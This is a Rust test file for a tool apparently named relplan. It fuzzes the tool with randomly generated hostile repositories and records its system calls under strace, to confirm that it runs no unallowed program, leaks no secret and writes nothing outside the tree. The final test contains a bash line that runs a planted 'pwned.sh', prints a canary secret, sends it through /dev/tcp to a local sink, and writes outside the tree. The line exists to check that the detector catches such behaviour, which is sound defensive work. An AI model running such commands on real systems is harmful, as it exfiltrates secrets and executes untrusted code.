//! Hostile trees: random repositories that try to run code, to get at secrets and to write outside, each read by the
//! real binary under a recorder.
//!
//! `TREES=n` makes n trees, `FIRST=seed` begins elsewhere, `KEEP=1` leaves the folder of a finding. A tree follows from
//! its seed alone. Why a generator beside the table of known attacks: the table holds what somebody thought of; two
//! harmless tricks in one tree are a third.

#![expect(
    unreachable_pub,
    reason = "nothing outside of a test binary can reach anything"
)]
#![expect(
    clippy::indexing_slicing,
    clippy::print_stderr,
    clippy::unwrap_used,
    reason = "a test fails by panicking, and tells its input"
)]

mod canary;
mod malice;
mod oracle;
mod place;
mod recorder;
mod sink;

use std::sync::atomic::{AtomicU64, Ordering};

use place::Place;
use relplan_testkit::mutation::Dice;

/// How many trees are read side by side: most of the time is spent waiting for servers that do not answer.
const WORKERS: usize = 8;

/// Trees that found something once. They are read first, so that it stays found.
const SEEDS: &str = include_str!("seeds.txt");

fn number(name: &str, default: u64) -> u64 {
    let asked = std::env::var(name).ok();
    asked.and_then(|text| text.parse().ok()).unwrap_or(default)
}

/// What one tree led to that must not be: empty if all is well.
fn findings(seed: u64, keep: bool) -> Vec<String> {
    let mut dice = Dice::new(seed);
    let mut place = Place::build(&mut dice);
    let tricks = malice::plant(&mut place, &mut dice);
    let mut found = Vec::new();
    let before = oracle::outside_of(&place);
    for arguments in malice::commands(&place, &mut dice) {
        let run = recorder::run(&place, &arguments);
        let wrong = oracle::judge(&place, &arguments, &run);
        found.extend(wrong.into_iter().map(|what| {
            format!(
                "seed {seed}: relplan {}: {what}\n  tricks: {}",
                arguments.join(" "),
                tricks.join(", ")
            )
        }));
    }
    if oracle::outside_of(&place) != before {
        found.push(format!(
            "seed {seed}: something outside was changed; tricks: {}",
            tricks.join(", ")
        ));
    }
    if keep && !found.is_empty() {
        eprintln!("kept: {}", place.keep().display());
    }
    found
}

/// L11, L14: whatever a tree holds, `plan` and its kin start no program but the allowed ones, connect to no address but
/// the allowed ones, show no secret, hand none to anybody, and write nothing outside.
#[test]
fn l14_no_tree_runs_code_gets_a_secret_or_writes_outside() {
    if !recorder::is_there() {
        eprintln!("SKIPPED: strace is not installed, and hostile trees are read under it");
        return;
    }
    let kept = SEEDS
        .lines()
        .filter_map(|line| line.split_whitespace().next()?.parse().ok());
    let first = number("FIRST", 1);
    let seeds: Vec<u64> = kept.chain(first..first + number("TREES", 40)).collect();
    let keep = number("KEEP", 0) > 0;
    let next = AtomicU64::new(0);
    let found: Vec<String> = std::thread::scope(|scope| {
        let work = || {
            let mut found = Vec::new();
            while let Some(seed) =
                seeds.get(usize::try_from(next.fetch_add(1, Ordering::Relaxed)).unwrap())
            {
                let wrong = findings(*seed, keep);
                for what in &wrong {
                    eprintln!("{what}");
                }
                found.extend(wrong);
            }
            found
        };
        let workers: Vec<_> = (0..WORKERS).map(|_| scope.spawn(work)).collect();
        workers
            .into_iter()
            .flat_map(|worker| worker.join().unwrap())
            .collect()
    });
    eprintln!("{} hostile trees, {} findings", seeds.len(), found.len());
    assert!(found.is_empty(), "{}", found.join("\n"));
}

/// The recorder and the oracle see what they are there to see: a program of the tree that runs, a secret that is sent,
/// one that is printed, and a file that is written outside.
#[test]
fn what_a_tree_must_not_do_is_seen_when_it_is_done() {
    if !recorder::is_there() {
        eprintln!("SKIPPED: strace is not installed");
        return;
    }
    let place = Place::build(&mut Dice::new(0));
    let script = format!(
        "./tools/pwned.sh; echo {secret}; printf 'GET /{secret} HTTP/1.1\\r\\n\\r\\n' >/dev/tcp/127.0.0.1/{port}; echo x >{outside}/new",
        secret = canary::GITHUB,
        port = place.sink.port(),
        outside = place.outside().display(),
    );
    let before = oracle::outside_of(&place);
    place.program("project/tools/pwned.sh");
    let run = recorder::run_program(&place, "bash", &["-c".to_owned(), script]);
    let wrong = oracle::judge(&place, &["plan".to_owned()], &run).join("\n");
    for expected in [
        "a program of the tree",
        "a secret in what was printed",
        "a secret was sent",
        "wrote outside",
    ] {
        assert!(wrong.contains(expected), "{expected} is not in:\n{wrong}");
    }
    assert_ne!(oracle::outside_of(&place), before);
}
